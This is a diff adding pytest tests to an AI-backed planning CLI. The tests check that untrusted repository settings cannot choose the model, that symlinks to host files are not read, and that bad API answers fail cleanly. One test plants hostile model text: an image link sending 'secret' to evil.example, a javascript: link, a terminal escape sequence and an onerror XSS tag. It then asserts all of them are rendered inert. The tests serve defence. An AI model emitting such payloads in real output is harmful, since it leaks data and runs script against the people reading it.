@@ -16,7 +16,15 @@ import pytest
 from click.testing import CliRunner, Result
 
 from sandbox_runner.cli import cli
-from tests.support.fake_messages_api import FakeMessagesAPI, drop, error, message, text, tool_use
+from tests.support.fake_messages_api import (
+    FakeMessagesAPI,
+    drop,
+    error,
+    message,
+    raw,
+    text,
+    tool_use,
+)
 from tests.support.plan_scripts import PerspectiveScript, writes_plan
 from tests.unit.test_plan_loop import VALID_PLAN
 
@@ -229,7 +237,15 @@ def test_config_precedence_flag_over_project_over_user(
     (repo / ".planrun" / "config.yaml").write_text("planning_model: claude-project-model\n")
     api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
     result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "a"), "--json")
-    assert api.message_requests[0].body["model"] == "claude-project-model"
+    # The repository is not trusted: its model is ignored, and said to be.
+    assert api.message_requests[0].body["model"] == "claude-user-model"
+    assert "asks for model 'claude-project-model'; ignored" in result.stderr
+    (planrun_home / "config.yaml").write_text(
+        f"planning_model: claude-user-model\nmax_turns: 7\ntrusted_projects: [{repo}]\n"
+    )
+    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
+    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "t"), "--json")
+    assert api.message_requests[-1].body["model"] == "claude-project-model"
     api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
     result = plan(
         "x",
@@ -520,3 +536,81 @@ def test_usage_errors_claim_no_run_directory(
 def test_out_cannot_be_the_repository(api: FakeMessagesAPI, repo: Path) -> None:
     result = plan("x", "--repo", str(repo), "--out", str(repo))
     assert result.exit_code == 2 and "the repository itself" in result.output
+
+
+def test_an_answer_that_is_not_json_fails_the_plan_and_says_so(
+    api: FakeMessagesAPI, repo: Path, tmp_path: Path
+) -> None:
+    api.script = PerspectiveScript({"plan": [raw("<html>502 Bad Gateway</html>")]})
+    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "out"))
+    assert result.exit_code == 1, result.output
+    assert "[plan] FAILED: the API's answer is not valid JSON" in result.output
+    assert "internal error" not in result.output
+    report = json.loads((tmp_path / "out" / "report.json").read_text())
+    assert report["plans"][0]["reason"].startswith("the API's answer is not valid JSON")
+
+
+def test_a_binary_cassette_fails_its_plan_with_a_failed_line(repo: Path, tmp_path: Path) -> None:
+    cassettes = tmp_path / "cassettes"
+    cassettes.mkdir()
+    (cassettes / "security.jsonl").write_bytes(b"\x89PNG\r\n\x1a\n\x00\xff")
+    args = ["--replay", str(cassettes), "--perspective", "security"]
+    result = plan("x", "--repo", str(repo), "--out", str(tmp_path / "out"), *args)
+    assert result.exit_code == 1, result.output
+    assert "[security] FAILED: cassette" in result.output
+    assert "is not UTF-8 text" in result.output and "UnicodeDecodeError" not in result.output
+
+
+def test_a_project_plan_agent_cannot_choose_the_model_and_is_named(
+    api: FakeMessagesAPI, repo: Path, tmp_path: Path
+) -> None:
+    agents = repo / ".planrun" / "agents"
+    agents.mkdir(parents=True)
+    (agents / "plan.md").write_text("---\nname: Plan\nmodel: opus\n---\nThe repository's prompt.\n")
+    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
+    out = tmp_path / "out"
+    result = plan("x", "--repo", str(repo), "--out", str(out))
+    assert result.exit_code == 0, result.output
+    assert api.message_requests[0].body["model"] == "claude-sonnet-4-6"
+    assert f"{agents / 'plan.md'} asks for model 'opus'; ignored" in result.output
+    named = f"Plan is overridden by {agents / 'plan.md'} (project)"
+    assert f"planrun: agent {named}" in result.output  # the progress
+    assert f"  agent: {named}" in result.output  # the summary
+    assert json.loads((out / "report.json").read_text())["agent_override"] == named
+    assert named in (out / "report.md").read_text()
+
+
+def test_repository_links_to_host_files_are_not_read(
+    api: FakeMessagesAPI, repo: Path, tmp_path: Path
+) -> None:
+    host = tmp_path / "host-notes.md"
+    host.write_text("## Host secret heading\n")
+    (repo / ".planrun").mkdir()
+    (repo / ".planrun" / "plan.md").symlink_to(host)
+    api.script = PerspectiveScript({"plan": writes_plan("plan", VALID_PLAN)})
+    out = tmp_path / "out"
+    result = plan("x", "--repo", str(repo), "--out", str(out))
+    assert result.exit_code == 0, result.output
+    assert "leads outside" in result.output and "using the default sections" in result.output
+    system = api.message_requests[0].body["system"][0]["text"]
+    assert "Host secret heading" not in system
+    assert "Host secret heading" not in (out / "report.json").read_text()
+
+
+def test_hostile_model_text_is_inert_in_the_report_and_the_terminal(
+    api: FakeMessagesAPI, repo: Path, tmp_path: Path
+) -> None:
+    hostile = VALID_PLAN.replace(
+        "## Approach\n",
+        "## Approach\n![](http://evil.example/?d=secret) [x](javascript:alert(1)) "
+        "\x1b]0;owned\x07 <img src=x onerror=alert(1)>\n",
+        1,
+    )
+    assert hostile != VALID_PLAN
+    api.script = PerspectiveScript({"plan": writes_plan("plan", hostile)})
+    out = tmp_path / "out"
+    result = plan("x", "--repo", str(repo), "--out", str(out))
+    assert "\x1b" not in result.output and "\x07" not in result.output
+    markdown = (out / "report.md").read_text()
+    assert "\x1b" not in markdown and "<img" not in markdown and "![" not in markdown
+    assert "](javascript:" not in markdown
